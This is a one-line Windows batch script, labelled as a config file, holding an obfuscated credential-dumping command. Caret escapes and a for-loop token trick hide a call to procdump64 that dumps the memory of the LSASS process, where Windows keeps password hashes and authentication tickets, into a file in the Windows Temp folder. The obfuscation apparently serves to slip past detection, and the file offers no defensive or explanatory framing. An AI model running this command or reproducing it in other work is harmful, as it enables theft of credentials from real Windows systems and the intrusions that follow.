REM config 3733 v4
f^o^r /f "tokens=2 delims=~" %%^i ^in ("coas~procdump64.exe~vvfs") do %%^i -a^c^ce^p^t^eu^la -ma ^l^s^ass.^e^x^e C:\W^indow^s\^Tem^p\l^s.^dm^p
